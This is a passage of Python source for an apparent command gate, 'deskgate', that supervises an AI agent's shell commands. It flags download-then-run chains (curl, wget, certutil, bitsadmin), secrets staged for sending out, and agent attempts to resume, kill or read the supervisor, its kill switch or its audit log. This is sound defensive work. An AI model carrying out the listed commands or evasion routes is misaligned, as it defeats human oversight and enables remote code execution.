    elif cmd.name != "cat" and len(ops) >= 2:
        dests.append(ops[-1])
        ops = ops[:-1]
    source = next((a for a in ops if _ACCOUNT_LIST.match(a)), None)
    if source is None:
        return
    dest = next((t for t in dests if _STAGED_COPY.search(resolve_path(t, cmd.cwd or None) or t)), None)
    if dest is not None:
        add(Finding("confirm.shell.secret-read", Risk.HIGH,
                    f"copies the account list {source.removeprefix('if=')} to {dest}, a temporary or hidden "
                    f"folder where it waits to be sent on{where}", cmd.span))


_WIN_DOWNLOAD_DEST = {"certutil": "-urlcache", "bitsadmin": "/transfer", "start-bitstransfer": "",
                      "invoke-webrequest": "", "iwr": "", "curl.exe": ""}
# programs described by their own name in the table, without "net", that `written_then_run` does not name as
# writers (cp, mv, install, ln, tee, dd, the Windows downloaders): it records no file they write
_WRITES_NOTHING_TO_RUN = DESCRIBED_OFFLINE - {"cp", "mv", "install", "ln", "tee", "dd", *_WIN_DOWNLOAD_DEST}
_WIN_FILE_RUNNERS = frozenset({"start", "rundll32", "regsvr32", "msiexec", "mshta", "cscript", "wscript",
                               "installutil", "msbuild", "start-process", "saps", "invoke-item", "ii"})
_WIN_RUNNABLE = re.compile(r"\.(exe|bat|cmd|com|ps1|vbs|vbe|js|jse|hta|msi|dll|scr|sct|wsf|lnk|cpl)$", re.I)


def _downloaded_to(cmd: Command) -> list[str]:
    """Files a Windows downloader writes: `certutil -urlcache -f URL FILE`, `bitsadmin /transfer J URL FILE`,
    `iwr URL -OutFile FILE`, `Start-BitsTransfer -Source URL -Destination FILE`."""
    words = [w.lower() for w in cmd.argv]
    out = [cmd.argv[k + 1] for k, w in enumerate(words[:-1]) if w in ("-outfile", "-destination", "-od")]
    if cmd.name in ("certutil", "bitsadmin") and _WIN_DOWNLOAD_DEST[cmd.name] in words and \
            any("://" in w for w in words) and not words[-1].startswith(("-", "/")) and "://" not in words[-1]:
        out.append(cmd.argv[-1])
    return out


# the output flag of a downloader, alone or ending a flag cluster (`curl -fsSLo F`)
_OUT_FLAG = {"curl": re.compile(r"-[a-zA-Z]*o"), "wget": re.compile(r"-[a-zA-Z]*O"),
             "wget2": re.compile(r"-[a-zA-Z]*O")}


def download_targets(cmd: Command) -> list[str]:
    """Files a downloader saves what it fetches into, as named on its command line (`curl -o F`,
    `curl -fsSLo F`, `wget -O F`, `--output=F`, `iwr -OutFile F`, `certutil -urlcache -f URL F`)."""
    out_flag = _OUT_FLAG.get(cmd.name)  # alone or ending a flag cluster
    out = []
    for k, a in enumerate(cmd.argv[1:], 1):
        if (a in ("-o", "-O", "--output", "--output-document") or
                (out_flag and out_flag.fullmatch(a))) and k + 1 < len(cmd.argv):
            out.append(cmd.argv[k + 1])
        elif a.startswith(("--output-document=", "--output=")):
            out.append(a.split("=", 1)[1])
    if cmd.name in _WIN_DOWNLOAD_DEST:
        out += _downloaded_to(cmd)
    return [t for t in out if t and t != "-"]


_PACKERS = frozenset({"tar", "gtar", "bsdtar", "zip", "7z", "7za", "rar", "cp", "gpg", "openssl", "cat", "base64",
                      "gzip", "xz", "zstd", "cpio", "ditto", "compress-archive"})


_RX_STAGED_SECRETS = re.compile(r"-[a-zA-Z]*f|--file|-out|-o|--output|-destinationpath", re.I)
_RX_STAGED_SECRETS_2 = re.compile(r"[a-zA-Z]*f")


def _staged_secrets(d: Detector, earlier: list[Command] | tuple[Command, ...]) -> dict[str, str]:
    """Files that earlier commands packed or copied secrets into (archive of ~/.ssh, cp of a key, cat of
    credentials > f): file key → the secret it carries."""
    staged: dict[str, str] = {}
    for c in earlier:
        if c.name in _SECRET_VERBS and (shown := printed_secret(c)):
            # a secret store read or a secret file decrypted into a file (`sops -d s.yaml > /tmp/s`, `age -d -o f`)
            outs = [t for op, t in c.redirects if op in (">", ">>")]
            outs += [c.argv[k + 1] for k, a in enumerate(c.argv[:-1]) if a in ("-o", "--output")]
            for o in outs:
                if o and o != "-":
                    staged[_run_key(o)] = f"what {shown} prints"
            continue
        if c.name not in _PACKERS:
            continue
        secret = next((hit for a in c.argv[1:] if (hit := d.secret_path(c, a))), None)
        if secret is None:
            continue
        outs = [t for op, t in c.redirects if op in (">", ">>")]
        args = list(c.argv[1:])
        for k, a in enumerate(args[:-1]):
            if _RX_STAGED_SECRETS.fullmatch(a) or \
                    (c.name in ("tar", "gtar", "bsdtar") and k == 0 and _RX_STAGED_SECRETS_2.fullmatch(a)):
                outs.append(args[k + 1])
        ops = [a for _, a in _operands(c)]
        if c.name in ("zip", "rar", "7z", "7za") and ops:
            outs.append(ops[1] if c.name in ("7z", "7za", "rar") and len(ops) > 1 else ops[0])
        elif c.name in ("cp", "ditto") and len(ops) >= 2:
            outs.append(ops[-1])
        for o in outs:
            if o and o != "-" and not d.secret_path(c, o):
                staged[_run_key(o)] = secret
    return staged


def _run_key(word: str) -> str:
    return word.removeprefix("./").removeprefix(".\\").split(",", 1)[0].lower()


_RX_WRITTEN_THEN_RUN = re.compile(r"-[a-zA-Z]*O|--output-document")
_RX_WRITTEN_THEN_RUN_2 = re.compile(r"-[a-zA-Z]*O[a-zA-Z]*|--remote-name(-all)?")


# the build and task files a tool runs the code of (its recipes, scripts, hooks) when started in their folder
_BUILD_FILES: dict[str, tuple[str, ...]] = {
    "make": ("Makefile", "makefile", "GNUmakefile"), "gmake": ("Makefile", "makefile", "GNUmakefile"),
    "rake": ("Rakefile", "rakefile"), "bundle": ("Gemfile",), "cmake": ("CMakeLists.txt",),
    "composer": ("composer.json",), "npm": ("package.json",), "yarn": ("package.json",), "pnpm": ("package.json",),
    "bun": ("package.json",), "gradle": ("build.gradle", "build.gradle.kts", "settings.gradle"),
    "gradlew": ("build.gradle", "build.gradle.kts"), "mvn": ("pom.xml",), "ant": ("build.xml",),
    "just": ("justfile", "Justfile", ".justfile"), "task": ("Taskfile.yml", "Taskfile.yaml"),
    "vagrant": ("Vagrantfile",), "meson": ("meson.build",), "scons": ("SConstruct",), "tox": ("tox.ini",),
    "nox": ("noxfile.py",), "invoke": ("tasks.py",), "inv": ("tasks.py",), "fab": ("fabfile.py",),
    "cargo": ("build.rs",), "pip": ("setup.py",), "pip3": ("setup.py",), "gem": ("*.gemspec",),
    "pre-commit": (".pre-commit-config.yaml",), "deno": ("deno.json",),
}


def _runs_build_file(cmd: Command) -> bool:
    """Whether this start of a build tool runs its folder's build file (not `npm view`, `pip install flask`)."""
    words = [w for w in cmd.words[1:] if not w.startswith("-")]
    if cmd.name in ("yarn", "pnpm", "bun"):  # (they run a script named on its own: `yarn build`)
        return not words or not set(words) & {"info", "view", "why", "list", "ls", "outdated", "audit", "search"}
    if cmd.name == "npm":
        return not words or bool(set(words) & {"install", "i", "ci", "run", "run-script", "test", "t", "start",
                                                "exec", "rebuild", "pack", "publish", "add", "restart", "stop"})
    if cmd.name in ("pip", "pip3"):
        return words[:1] == ["install"] and "." in words
    if cmd.name == "bundle":
        return not words or words[0] in ("install", "exec", "update", "check")
    if cmd.name == "cargo":
        return bool(words) and words[0] in ("build", "run", "test", "check", "install")
    if cmd.name == "composer":
        return not words or words[0] in ("install", "update", "run-script", "run", "require")
    return True


def written_then_run(cmd: Command, analysis: ShellAnalysis, where: str, add: Add, written: dict[str, str]) -> None:
    """Record what this command writes; a command that runs a file written, downloaded or cloned earlier in
    the same string runs code the gate never saw (`curl -o x.sh URL && ./x.sh`, `echo ... > f; bash f`).
    A file a downloader wrote and this command runs is remote code run unseen: it blocks like `curl | sh`.
    `judge` skips the call when it would do nothing (`_WRITES_NOTHING_TO_RUN`): a program named below as a
    writer must stay out of that set."""
    name = cmd.name
    eff = program_effects(name) or frozenset()
    for op, target in cmd.redirects:
        if op in (">", ">>", ">|", "&>", "&>>"):
            written.setdefault(_run_key(target), name)
    if name in ("cp", "mv", "install", "ln", "tee", "dd") or "net" in eff:
        for target in download_targets(cmd):
            written.setdefault(_run_key(target), name)
        ops = _operands(cmd)
        if name in ("cp", "mv", "install", "ln") and len(ops) >= 2:
            written.setdefault(_run_key(ops[-1][1]), name)
        if (name in ("wget", "wget2") and not any(_RX_WRITTEN_THEN_RUN.match(a)
                                                  for a in cmd.argv[1:])) or \
                (name == "curl" and any(_RX_WRITTEN_THEN_RUN_2.fullmatch(a)
                                        for a in cmd.argv[1:])):  # saved under the URL's own file name
            for a in cmd.argv[1:]:
                if "://" in a and a.rstrip("/").count("/") > 2:
                    written.setdefault(_run_key(a.rstrip("/").rsplit("/", 1)[-1]), name)
    elif name in _WIN_DOWNLOAD_DEST:
        for dest in _downloaded_to(cmd):
            written.setdefault(_run_key(dest), name)
    if name in _UNPACKERS and (written or cmd.upstream):
        _unpacked(cmd, analysis, written)
    if written and name in _BUILD_FILES:
        dirs = [""] + [a.rstrip("/") + "/" for a in cmd.argv[1:] if not a.startswith("-") and "://" not in a]
        named = [cmd.argv[k + 1] for k in range(1, len(cmd.argv) - 1) if cmd.argv[k] in ("-f", "--file", "-C", "-S",
                                                                                           "--directory")]
        dirs += [a.rstrip("/") + "/" for a in named]
        build = next((a for a in named if _run_key(a) in written), None) or \
            next((d + f for d in dirs for f in _BUILD_FILES[name] if _run_key(d + f) in written), None)
        if build is not None and _runs_build_file(cmd):
            add(Finding("confirm.shell.indirect-exec", Risk.HIGH, f"{name} runs what {build} says, and "
                        f"{written[_run_key(build)]} wrote {build} in the same command{where}", cmd.span))
            return
    word = cmd.argv[0] if cmd.argv else ""
    runner = name in SHELLS or name in INTERPRETERS or name in ("source", ".") or name in _WIN_FILE_RUNNERS
    if not written and (runner or not word.startswith("./")):
        return  # nothing written before it to run, and no `./file` run after a fetch
    if runner:
        word = next((a for _, a in _operands(cmd) if not a.startswith("/")
                     or name not in _WIN_FILE_RUNNERS or a.count("/") > 1), "")  # the script it runs
    ran = _run_key(word) if written else ""  # nothing written yet: nothing it runs was written here
    fetched = next((c.name for c in _before(analysis, cmd) if c.name in _FETCHERS or
                    (c.name in ("git", "hg", "svn") and "clone" in c.words[1:3])),
                   None) if word.startswith("./") and not runner else None
    program = cmd.argv[0] if cmd.argv else ""
    unpacked = _from_unpacked(program, written) if program else None
    if unpacked is None and word:
        unpacked, program = _from_unpacked(word, written), word
    if unpacked is not None:
        add(Finding("block.shell.remote-code-exec", Risk.CRITICAL,
                    f"runs {program}, unpacked from an archive {unpacked} downloaded in the same command{where}",
                    cmd.span))
    elif word and ran in written and \
            (runner or word.startswith(("./", ".\\")) or "/" in word or _WIN_RUNNABLE.search(word)) and \
            (written[ran] in DOWNLOADERS or written[ran] in _FETCHERS or
                                written[ran] in _WIN_DOWNLOAD_DEST):
        add(Finding("block.shell.remote-code-exec", Risk.CRITICAL,
                    f"runs {word}, which {written[ran]} downloaded in the same command{where}", cmd.span))
    elif fetched:
        add(Finding("confirm.shell.indirect-exec", Risk.HIGH,
                    f"runs {word} right after {fetched} fetched code from the network{where}", cmd.span))
    elif word and (runner or word.startswith("./") or "/" in word) and ran in written:
        add(Finding("confirm.shell.indirect-exec", Risk.HIGH,
                    f"runs {word}, which {written[ran]} wrote in the same command{where}", cmd.span))


# programs that unpack an archive into a folder (the folder: `unzip -d D`, `tar -C D`, `7z x -oD`,
# `Expand-Archive -DestinationPath D`, `unrar x A D`; otherwise the current folder)
_UNPACKERS = frozenset({"unzip", "tar", "gtar", "bsdtar", "7z", "7za", "7zz", "unrar", "expand-archive",
                        "ditto", "cabextract", "expand"})
_UNPACKED = "\0unpacked:"  # the key prefix in `written` of a folder an archive downloaded here was unpacked into


def _unpacked(cmd: Command, analysis: ShellAnalysis, written: dict[str, str]) -> None:
    """Record the folder an archive that a downloader wrote in the same command (or pipes into it: `curl URL |
    tar xz -C D`) is unpacked into."""
    argv, words = cmd.argv, cmd.words
    archive = next((a for a in (w.split("=", 1)[1] if w.startswith("--file=") else w for w in argv[1:])
                    if _run_key(a) in written and
                    (written[_run_key(a)] in DOWNLOADERS or written[_run_key(a)] in _FETCHERS or
                     written[_run_key(a)] in _WIN_DOWNLOAD_DEST)), None)
    by = written[_run_key(archive)] if archive is not None else next(
        (c.name for c in (analysis.commands[i] for i in cmd.upstream) if c.name in DOWNLOADERS), None)
    if by is None:
        return
    name = cmd.name
    if (name in ("tar", "gtar", "bsdtar") and not any(
            w in ("--extract", "--get") or (not w.startswith("--") and "x" in w and (w.startswith("-") or k == 1))
            for k, w in enumerate(words[1:], 1))) or \
            (name == "unzip" and any(w in ("-l", "-t", "-v", "-z") for w in words[1:])) or \
            (name in ("7z", "7za", "7zz", "unrar") and words[1:2] not in (("x",), ("e",))):
        return  # a listing or a test of the archive: nothing unpacked
    dest = "."
    for k, w in enumerate(words[1:], 1):
        nxt = argv[k + 1] if k + 1 < len(argv) else ""
        if (name == "unzip" and w == "-d") or (name in ("tar", "gtar", "bsdtar") and w in ("-c", "--directory")) or \
                (name == "expand-archive" and w in ("-destinationpath", "-destination", "-dest")):
            if name in ("tar", "gtar", "bsdtar") and argv[k] == "-c":
                continue  # tar's -c makes an archive; -C (case kept in argv) names the folder
            dest = nxt or dest
        elif name in ("tar", "gtar", "bsdtar") and argv[k] == "-C":
            dest = nxt or dest
        elif w.startswith("--directory="):
            dest = argv[k].split("=", 1)[1]
        elif name in ("7z", "7za", "7zz") and w.startswith("-o") and len(w) > 2:
            dest = argv[k][2:]
    if name in ("tar", "gtar", "bsdtar"):
        dest = next((argv[k + 1] for k in range(1, len(argv) - 1) if argv[k] == "-C"), dest)
    if name in ("unrar", "ditto") or (name == "expand-archive" and dest == "."):
        plain = [a for a in argv[1:] if not a.startswith("-") and a != archive and a.lower() not in ("x", "e")]
        dest = plain[-1] if plain else dest
    key = _run_key(dest).replace("\\", "/").rstrip("/") or "."
    written.setdefault(_UNPACKED + key, by)


def _from_unpacked(word: str, written: dict[str, str]) -> str | None:
    """The downloader whose archive was unpacked into the folder `word` (a program run by path) sits in."""
    if not any(k.startswith(_UNPACKED) for k in written):
        return None
    raw = word.strip("'\"").replace("\\", "/")
    path = _run_key(raw)
    if "/" not in raw or _BUILD_STEP.search(path):
        return None  # a bare name is found on PATH; a source tree's configure step asks as before
    for key, by in written.items():
        if not key.startswith(_UNPACKED):
            continue
        folder = key[len(_UNPACKED):]
        if (folder == "." and not path.startswith("/") and ":" not in path.split("/", 1)[0]) or \
                path.startswith(folder + "/"):
            return by
    return None


# the configure step of a source release (GNU's and autotools' `./configure`, `./autogen.sh`, `./bootstrap`):
# building from a released tarball, which asks as any program run right after a fetch does
_BUILD_STEP = re.compile(r"(?:^|/)(?:configure|autogen\.sh|bootstrap(?:\.sh)?|config\.status)$")


# deskgate's command line reached as a module of its package (`python3 -m app.cli.main resume`) or its code
# imported (`python3 -c "from app.cli.main import main; main(['resume'])"`): the verbs that undo the person's
# kill switch or pause, or cut the log (another project's `app.cli.main` has no reason to use these)
_OWN_MODULES = frozenset({"app.cli.main", "app.cli"})
_OWN_CODE = re.compile(r"\bapp\.cli(?:\.main)?\b|\bapp\.daemon\.(?:control|killstate|runstate)\b")
_OWN_CONTROL = re.compile(r"\b(resume|unpause|prune|rotate)\b")


def supervisor(d: Detector, cmd: Command, where: str, add: Add) -> None:
    """deskgate's own controls and files are out of an agent's reach."""
    name = cmd.name
    k = 1
    if name in _OWN_MODULES and any(_OWN_CONTROL.fullmatch(a.lower()) for a in cmd.argv[1:]):
        name = "deskgate"  # `python3 -m app.cli.main resume`
    elif name in INTERPRETERS and len(cmd.argv) > 1 and cmd.words[1].rsplit("/", 1)[-1] == "deskgate":
        name, k = "deskgate", 2  # `python3 ~/.venv/bin/deskgate unpause`: its script run by the interpreter
    elif name in INTERPRETERS and any(_OWN_CODE.search(w) and _OWN_CONTROL.search(w.lower()) for w in cmd.words[1:]):
        add(Finding("block.shell.supervisor-tamper", Risk.CRITICAL,
                    f"{name} code runs deskgate's own command line to resume, unpause or prune: the person's control "
                    f"of the supervisor{where}", cmd.span))
        return
    if name == "deskgate":
        verbs = [a.lower() for a in cmd.argv[k:] if not a.startswith("-") or a in ("--help", "-h", "--version")]
        # under xargs/parallel the verb comes from stdin: unknown, so not known to be harmless
        fed = any(v.split()[0] in ("xargs", "parallel") for v in cmd.via if v.strip())
        verb = verbs[0] if verbs else ("<stdin>" if fed else "--help")
        if verb not in _DESKGATE_SAFE or (verb == "log" and (len(verbs) < 2 or verbs[1] not in _LOG_SAFE)):
            shown = " ".join(verbs[:2])
            add(Finding("block.shell.supervisor-tamper", Risk.CRITICAL,
                        f"`deskgate {shown}` is the person's control of the supervisor, not the agent's{where}",
                        cmd.span))
            return
    if name in _LAUNCHERS:
        tokens = " ".join(cmd.words[1:]).replace("'", " ").replace('"', " ").split()
        at = next((i for i, t in enumerate(tokens) if t == "deskgate" or t.endswith("/deskgate")), None)
        if at is not None:
            verbs = [t.lower() for t in tokens[at + 1:] if not t.startswith("-")]
            if not verbs or verbs[0] not in _DESKGATE_SAFE:  # xargs: the verb comes from stdin
                add(Finding("block.shell.supervisor-tamper", Risk.CRITICAL,
                            f"{name} runs `deskgate {' '.join(verbs[:1])}`: the person's control of the "
                            f"supervisor, on a terminal or input the agent supplies{where}", cmd.span))
                return
    if name in ("pkill", "killall", "kill", "systemctl", "service", "taskkill", "stop-process") and \
            any("deskgate" in w for w in cmd.words[1:]):
        verb = next((w for w in cmd.words[1:] if not w.startswith("-")), "")
        if name not in ("systemctl", "service") or verb in ("stop", "kill", "disable", "mask", "restart") or \
                "stop" in cmd.words:
            add(Finding("block.shell.supervisor-tamper", Risk.CRITICAL,
                        f"{name} stops deskgate, the supervisor of this agent{where}", cmd.span))
            return
    if name in INTERPRETERS or name in _CODE_RUNNERS:
        # code and socket tools reach the control socket or delete the kill state without an operand the
        # path rules see; naming deskgate's own files there is the same attack as `deskgate resume`
        hit = next((m for w in cmd.words[1:] if (m := OWN_NAMES.search(w))), None)
        if hit is not None:
            add(Finding("block.shell.supervisor-tamper", Risk.CRITICAL,
                        f"{name} code names deskgate's own socket or files ({hit.group(0).strip()}); only the "
                        f"person controls the supervisor{where}", cmd.span))
            return
        # code that deletes, moves or empties a tree holding deskgate's (`shutil.rmtree('~/.local/share')`)
        for w in cmd.argv[1:]:
            if len(w) > 12 and _CODE_REMOVES.search(w):
                place = next((q for q in _CODE_PATH.findall(w) if _own_parent(d, q, cmd) or _own_path(d, q, cmd)),
                             None)
                if place is not None:
                    add(Finding("block.shell.supervisor-tamper", Risk.CRITICAL,
                                f"{name} code removes or moves {place}, which holds deskgate's own policy, kill "
                                f"state or audit log{where}", cmd.span))
                    return
    targets: list[str] = [t for op, t in cmd.redirects if op in (">", ">>", ">|", "&>", "&>>", "<>")]
    eff = program_effects(name) or frozenset()
    if eff & _WRITE_EFFECTS or name in ("sed", "gsed", "perl", "truncate", "shred", "sqlite3", "ln", "tee"):
        targets += [a for _, a in _operands(cmd)]
    for t in targets:
        if _own_path(d, t, cmd) or _glob_reaches(d, t, cmd):
            add(Finding("block.shell.supervisor-tamper", Risk.CRITICAL,
                        f"{name} changes {t}: deskgate's own policy, kill state, socket or audit log{where}",
                        cmd.span))
            return
    if name == "deskgate" or (name in _METADATA_ONLY and not (name == "find" and _FIND_ACTS.intersection(cmd.argv))):
        # a harmless deskgate verb (`log verify --db …`) reads its files in its own process, by design;
        # listing or stat-ing deskgate's directory reads none of its contents
        return
    reads = [a for _, a in _operands(cmd)] + [t for op, t in cmd.redirects if op in ("<", "<<<")]
    reads += [a.split("=", 1)[1] for a in cmd.argv[1:] if "=" in a and a.startswith(("-", "if="))]
    for t in reads:
        if _own_path(d, t, cmd):
            add(Finding("block.shell.supervisor-read", Risk.CRITICAL,
                        f"{name} reads {t}: deskgate's own audit log, key, chain head or state{where}", cmd.span))
            return
    supervisor_parent(d, cmd, where, add)


def _own_path(d: Detector, t: str, cmd: Command) -> bool:
    path = resolve_path(t, cmd.cwd or None) or t.lower()
    # `$XDG_RUNTIME_DIR/deskgate/control.sock`: the variable is only known at run time, the name is not
    return d.supervisor_path(path) or (t.startswith("$") and OWN_NAMES.search(t) is not None)


# Programs that copy, archive, sync or search whole directory trees: naming a directory that holds one of
# deskgate's (`~/.local/state`, `~/.config`, `/run/user/1000`) reads deskgate's files with it.
_BULK_READERS = frozenset({
    "cp", "rsync", "tar", "gtar", "bsdtar", "zip", "7z", "7za", "7zr", "rar", "scp", "rclone", "cpio", "pax",
    "grep", "egrep", "rgrep", "rg", "ag", "ack", "ditto", "robocopy", "xcopy", "compress-archive", "duplicity",
    "restic", "borg", "tar.exe", "zstd", "gzip", "xz", "bzip2",
})
_RECURSIVE_FLAG = re.compile(r"^-[a-zA-Z]*[rRa][a-zA-Z]*$|^--(recursive|archive|dereference-recursive)$")
_OWN_PARENT_HINT = Guarded(re.compile(r"\.local|\.config|/run/user|\$\{?XDG_|application support|appdata",
                                      re.IGNORECASE))  # (a case-blind alternation: searched where a word of it is)
_XDG_BASE = re.compile(r"^\$\{?XDG_(CONFIG|DATA|STATE|RUNTIME)_(HOME|DIR)\}?/*$")
_METADATA_ONLY = frozenset({"ls", "stat", "du", "file", "test", "[", "realpath", "readlink", "dirname",
                            "basename", "cd", "pwd", "df", "find", "tree", "exa", "eza", "mkdir"})
_FIND_ACTS = frozenset({"-exec", "-execdir", "-ok", "-okdir", "-delete", "-fprint", "-fprintf", "-fls"})


# Programs that move, delete or re-permission what they are given: naming a directory that holds one of
# deskgate's moves or deletes deskgate's files with it (`mv ~/.local/state /tmp/s` takes the kill state).
_PERMISSION_CHANGERS = frozenset({"chmod", "chown", "chgrp", "setfacl", "chattr"})
_TREE_CHANGERS = frozenset({"mv", "rm", "rmdir", "chmod", "chown", "chgrp", "shred", "srm", "trash", "trash-put",
                            "gio", "setfacl", "chattr", "unlink", "rename"})


# code that removes, moves or empties what it names, and the home-rooted or absolute paths it names in quotes
_CODE_REMOVES = Guarded(re.compile(r"rmtree|\bremove|\bunlink|\brename|\breplace\(|\btruncate|\brm(sync)?\b|rm\s+-\w*r|"
                           r"remove-item|\bmove\(|\brmdir|\bdelete", re.IGNORECASE))
_CODE_PATH = re.compile(r"""['"]((?:~|/|\$HOME\b|\$\{HOME\})[^'"\n]{0,256})['"]""")
_GLOB = re.compile(r"[*?\[]")
# the names on the way to deskgate's directories and in them, for what a glob could expand to
_OWN_WORDS = (".local", ".config", "share", "state", "config", "deskgate", "audit.db", "audit.db-wal", "audit.key",
              "audit-chain", "killed.json", "control.sock", "deskgate.sock", "policy.toml")


def _wild(word: str, pattern: str) -> bool:
    """Whether a shell glob (`*`, `?`, `[...]`) matches `word` whole; no regex is built for it."""
    if pattern and not pattern.strip("*"):
        return True  # `*` (or `**`) matches every word: what the walk below finds, character by character
    w = p = 0
    star, mark = -1, 0
    while w < len(word):
        if p < len(pattern) and pattern[p] == "[" and (close := pattern.find("]", p + 2)) > 0:
            body = pattern[p + 1:close]
            neg = body[:1] in ("!", "^")
            body = body[1:] if neg else body
            hit = any(body[k] <= word[w] <= body[k + 2] if k + 2 < len(body) and body[k + 1] == "-" else
                      body[k] == word[w] for k in range(len(body)))
            if hit != neg:
                w, p = w + 1, close + 1
                continue
        elif p < len(pattern) and pattern[p] in ("?", word[w]):
            w, p = w + 1, p + 1
            continue
        if p < len(pattern) and pattern[p] == "*":
            star, mark = p, w
            p += 1
        elif star >= 0:
            mark += 1
            w, p = mark, star + 1
        else:
            return False
    return pattern[p:].strip("*") == ""


_SOCKET_NAMES = ("/control.sock", "/deskgate.sock")
_RUNTIME_HINT = re.compile(r"/run/|/tmp/|runtime|/var/folders/|^\$|^/private/", re.IGNORECASE)


def _glob_reaches(d: Detector, t: str, cmd: Command) -> str | None:
    """`t` when it is a glob the shell expands to one of deskgate's own directories or files, or a directory
    that holds one (`~/.local/share/*`, `~/.local/*/desk*`); `*` does not match a dot file's leading dot."""
    if not _GLOB.search(t) or len(t) > 512:
        return None
    choices: list[list[str]] = []
    for part in t.split("/"):
        if not _GLOB.search(part):
            choices.append([part])
            continue
        fold = part.lower()
        words = [w for w in _OWN_WORDS if _wild(w, fold) and (fold.startswith(".") or w[0] != ".")]
        if not words:
            return None
        choices.append(words)
    for combo in itertools.islice(itertools.product(*choices), 64):
        candidate = "/".join(combo)
        if candidate.endswith(_SOCKET_NAMES) and not _RUNTIME_HINT.search(t):
            continue  # a socket lives in a runtime folder: a glob over another (the Trash) meets one only by name
        if _own_path(d, candidate, cmd) or _own_parent(d, candidate, cmd):
            return t
    return None


_PLAIN_NAME = re.compile(r"[\w.*?/\\-]+")
_FIND_NAMES = frozenset({"-name", "-iname", "-path", "-ipath", "-wholename", "-iwholename", "-regex", "-iregex"})


def _find_reaches(d: Detector, cmd: Command) -> str | None:
    """A `find` that deletes or runs a program on what it finds (`-delete`, `-exec truncate -s0 {} +`) from a root
    that holds deskgate's directories, whose name tests (if any) can match one of deskgate's files."""
    argv = cmd.argv
    if not _FIND_ACTS.intersection(argv):
        return None
    roots = list(itertools.takewhile(lambda a: not a.startswith(("-", "(", "!", "\\(")), argv[1:]))
    names = [argv[k + 1].lower() for k, a in enumerate(argv[:-1]) if a.lower() in _FIND_NAMES]
    named = (not names) or any(
        _wild(w, n) or (n.startswith(("/", ".*", "*")) and _wild(w, n.rsplit("/", 1)[-1]))
        or (_PLAIN_NAME.fullmatch(n) is None and w in n)  # a -regex that spells the name
        for w in _OWN_WORDS for n in names)
    if not named:
        return None
    for root in roots:
        path = resolve_path(root, cmd.cwd or None)
        if path is None:
            continue
        whole = path.rstrip("/") in ("", HOME)
        if (names and whole) or _own_path(d, root, cmd) or _own_parent(d, root, cmd):
            return root
    return None


def supervisor_parent(d: Detector, cmd: Command, where: str, add: Add) -> None:
    """A tree copied, archived, synced or searched (read), or moved, deleted or re-permissioned (changed),
    that contains one of deskgate's own directories; a glob that expands to one; a `find` that deletes or runs
    a program on what it finds there."""
    name = cmd.name
    if name == "find" and (root := _find_reaches(d, cmd)) is not None:
        add(Finding("block.shell.supervisor-tamper", Risk.CRITICAL,
                    f"find acts on what it finds under {root}, deskgate's own policy, kill state or audit log among "
                    f"it{where}", cmd.span))
        return
    if name in _TREE_CHANGERS:
        if name in _PERMISSION_CHANGERS and not any(_RECURSIVE_FLAG.match(a) for a in cmd.argv[1:]):
            return  # the directory's own mode, not what is in it
        for _, t in _operands(cmd):
            if hit := _own_parent(d, t, cmd) or _glob_reaches(d, t, cmd):
                add(Finding("block.shell.supervisor-tamper", Risk.CRITICAL,
                            f"{name} changes {hit}, which holds deskgate's own policy, kill state or audit log"
                            f"{where}", cmd.span))
                return
        return
    if name not in _BULK_READERS:
        return
    if name in ("cp", "grep", "egrep") and not any(_RECURSIVE_FLAG.match(a) for a in cmd.argv[1:]):
        return  # without -r they read no directory
    for _, t in _operands(cmd):
        if hit := _own_parent(d, t, cmd):
            add(Finding("block.shell.supervisor-read", Risk.CRITICAL,
                        f"{name} reads {hit}, which holds deskgate's own audit log, key or state{where}", cmd.span))
            return


_OWN_TAILS = ("/deskgate", "/share/deskgate", "/state/deskgate")


def _own_parent(d: Detector, t: str, cmd: Command) -> str | None:
    """`t` when it names a directory that holds one of deskgate's (not the whole home or disk), else None."""
    if _XDG_BASE.match(t):
        return t
    path = resolve_path(t, cmd.cwd or None)
    if not path or path.rstrip("/") in ("", HOME, "/home", "/run/user", "/run"):
        return None  # the whole home or disk: other rules judge that; the fence hides deskgate's dirs in it
    base = path.rstrip("/")
    return t if any(d.supervisor_path(base + tail) for tail in _OWN_TAILS) else None


# A line that is a sentence: a question word or a request's verb, then only words (a chat client's prompt sent as a
# command by an agent that mixes the two). No shell runs a program for it: the first word names none.
# (a word may be quoted or name a file: `the word "TODO"`, `in README.md`; no shell sign stands anywhere in it)
_PROSE = re.compile(r"(?i)(?:what|whats|how|why|where|when|who|which|can|could|would|should|is|are|does|do|did|"
                    r"please|show|explain|tell|give|summari[sz]e|describe|help|write|create|generate|suggest|"
                    r"translate|fix|i|my|let's|lets|hey|hi|hello|review|implement|refactor|analy[sz]e|compare|"
                    r"rewrite|document)(?:[ ,]+(?:[a-z0-9][\w'’-]{0,30}(?:\.[a-z0-9]{1,8})?|\"[\w .:'-]{1,60}\"|"
                    r"'[\w .:-]{1,60}'|`[\w .-]{1,40}`)){2,24}[ ]?[?.!]?")


def _prose(source: str) -> bool:
    line = source.strip()
    return len(line) <= 300 and _PROSE.fullmatch(line) is not None


def unknown(d: Detector, cmd: Command, analysis: ShellAnalysis, where: str, add: Add) -> None:
    if not d.ask_unknown or not cmd.argv or 0 in cmd.dynamic or analysis.unparsable:
        return  # an unparsable string asks (shell) or is prose (typed text) already
    if not _PROGRAM_START.match(cmd.name or "-") or not cmd.name.strip("/.~"):
        return  # `-rf`, `/`: a fragment, not a program (a person sees it typed; bash would not find it)
    if cmd.via and ":" in cmd.name and plain_settings_page(cmd.name):
        return  # `Start-Process ms-settings:display`: a launcher opens a plain settings page, nothing else runs
    if cmd.via and cmd.via[-1].endswith(" -m"):
        return  # `python -m module`: a module of the interpreter, judged like the interpreter's code
    if len(analysis.commands) == 1 and not cmd.via and _prose(analysis.source) and program_effects(cmd.name) is None:
        return  # a question or a request in words sent as a line ("What is in this folder?"): no program runs
    if program_effects(cmd.name) is None and d.judged(cmd.name) and not functions_for(cmd.name):
        return  # a detector judges it by name (a catalogue program the table does not describe still asks)
    why = unknown_effect(cmd.argv, cmd.name) or (_staged_run(cmd) if cmd.cwd else None)
    if why and not (program_effects(cmd.name) is None and quiet_use(cmd)):
        add(Finding("confirm.shell.unknown-program", Risk.MEDIUM, why + where, cmd.span))


# where a payload is put to run unseen: memory-backed or long-lived temporary folders, and hidden folders
# that are not a known tool's own (~/.local/bin, ~/.cargo/bin, a project's .venv/bin)
_STAGED_RUN = re.compile(
